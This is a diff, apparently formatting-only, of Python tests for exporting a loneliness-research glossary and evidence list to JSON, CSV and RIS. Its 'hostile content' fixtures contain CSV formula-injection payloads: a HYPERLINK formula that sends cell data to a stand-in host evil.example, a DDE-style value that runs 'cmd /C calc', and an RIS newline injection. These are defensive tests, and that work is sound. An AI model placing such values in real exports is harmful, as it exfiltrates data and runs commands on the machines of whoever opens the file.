@@ -36,7 +36,8 @@ def test_glossary_json_round_trips_with_special_characters(corpus):
     assert data["count"] == 3 and data["licence"] == "CC-BY-4.0"
     terms = {t["id"]: t for t in data["terms"]}
     assert terms["loneliness"]["working_definition"] == (
-        'The painful gap between the relationships we have and those we want: "<not> & {{ escaped }}" ŵ ŷ.')
+        'The painful gap between the relationships we have and those we want: "<not> & {{ escaped }}" ŵ ŷ.'
+    )
     co = terms["co-production"]
     assert co["aliases"] == ["coproduction", "co-produced"]
     assert co["group"] == {"id": "the-work", "title": "The work of putting relationships first"}
@@ -50,8 +51,11 @@ def test_glossary_json_round_trips_with_special_characters(corpus):
 def test_evidence_json_keeps_rating_and_direction_apart(corpus):
     data = json.loads(evidence_json(corpus))
     holt = next(e for e in data["evidence"] if e["id"] == "holt-lunstad-2010")
-    assert holt["confidence"] == {"rating": 4, "label": "Strong",
-                                  "rationale": "A large meta-analysis of many independent studies with consistent results."}
+    assert holt["confidence"] == {
+        "rating": 4,
+        "label": "Strong",
+        "rationale": "A large meta-analysis of many independent studies with consistent results.",
+    }
     assert holt["findings_direction"] == "positive"
     assert holt["doi"] == "10.1371/journal.pmed.1000316" and holt["authors"][0] == "Holt-Lunstad, Julianne"
     assert [e["id"] for e in data["evidence"]] == ["holt-lunstad-2010", "russell-1996"]  # newest first
@@ -108,7 +112,11 @@ def test_ris_is_valid_and_complete(corpus):
 
 def test_export_files_land_beside_their_index_pages(corpus):
     assert [f.src_uri for f in export_files(corpus)] == [
-        "glossary/glossary.json", "evidence/evidence.json", "evidence/evidence.csv", "evidence/evidence.ris"]
+        "glossary/glossary.json",
+        "evidence/evidence.json",
+        "evidence/evidence.csv",
+        "evidence/evidence.ris",
+    ]
 
 
 # -- hostile content (issue 16): formulas and injected RIS lines --------------------------
@@ -122,7 +130,7 @@ def test_other_values_stay_as_they_are(value):
     assert neutralise_cell(value) is value or neutralise_cell(value) == value
 
 
-HOSTILE_TITLE = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")"
+HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
 INJECTED_TITLE = "Real title\nER  - \nTY  - JOUR\nTI  - Injected"
 
 
@@ -131,13 +139,18 @@ def hostile(tmp_path_factory, make_project):
     """The sample with formulas in every free-text field of one evidence item and a newline attack in another."""
     root = make_project(tmp_path_factory.mktemp("hostile"), git=False)
     russell = root / "docs/evidence/russell-1996.md"
-    russell.write_text(russell.read_text(encoding="utf-8")
-                       .replace('title: "UCLA Loneliness Scale (Version 3): reliability, validity, and factor structure"',
-                                f"title: {json.dumps(HOSTILE_TITLE)}")
-                       .replace('authors: ["Russell, Daniel W."]', 'authors: ["@SUM(1+1)*cmd|\' /C calc\'!A0", "Russell, Daniel W."]')
-                       .replace("publisher: Journal of Personality Assessment", "publisher: +Journal")
-                       .replace("rationale: A well-tested scale, validated across several samples.", "rationale: -2+3")
-                       .replace("confidence:", 'key_findings: ["=1+1", "fine"]\nconfidence:'), encoding="utf-8")
+    russell.write_text(
+        russell.read_text(encoding="utf-8")
+        .replace(
+            'title: "UCLA Loneliness Scale (Version 3): reliability, validity, and factor structure"',
+            f"title: {json.dumps(HOSTILE_TITLE)}",
+        )
+        .replace('authors: ["Russell, Daniel W."]', 'authors: ["@SUM(1+1)*cmd|\' /C calc\'!A0", "Russell, Daniel W."]')
+        .replace("publisher: Journal of Personality Assessment", "publisher: +Journal")
+        .replace("rationale: A well-tested scale, validated across several samples.", "rationale: -2+3")
+        .replace("confidence:", 'key_findings: ["=1+1", "fine"]\nconfidence:'),
+        encoding="utf-8",
+    )
     holt = root / "docs/evidence/holt-lunstad-2010.md"
     text = holt.read_text(encoding="utf-8")
     title = next(line for line in text.splitlines() if line.startswith("title:"))
